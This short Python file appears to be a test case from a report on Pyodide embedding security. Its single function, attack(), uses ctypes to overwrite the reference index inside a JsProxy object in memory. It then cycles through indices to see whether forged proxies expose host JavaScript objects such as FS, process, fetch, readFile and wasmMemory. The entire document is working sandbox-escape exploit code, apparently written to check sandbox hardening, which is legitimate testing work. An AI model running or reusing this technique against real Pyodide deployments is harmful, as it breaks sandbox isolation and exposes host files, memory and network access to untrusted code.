# From: pyodide-embedding report: a proxy is an index in memory; a forged one shows whatever JavaScript holds.
# Ends: [] or error crash
WANTED = ("FS", "_module", "HEAPU8", "runPython", "globalThis", "process", "readFile", "fetch", "WebAssembly", "wasmMemory", "hiwire")


def attack(probe):
    import ctypes

    import js
    from pyodide.ffi import JsProxy, to_js

    host = to_js([1, 2, 3])
    size = type(host).__basicsize__
    words = (ctypes.c_uint32 * (size // 4)).from_address(id(host))
    original = list(words)
    # The word that differs between two proxies of the same type is the reference.
    other = to_js([4])
    theirs = list((ctypes.c_uint32 * (size // 4)).from_address(id(other)))
    places = [place for place in range(2, len(original)) if original[place] != theirs[place]]
    found = []
    for place in places:
        for index in range(2, 130):
            words[place] = index
            try:
                found += [name for name in WANTED if hasattr(host, name)]
            except Exception:
                pass
            words[place] = original[place]
    return sorted(set(found))
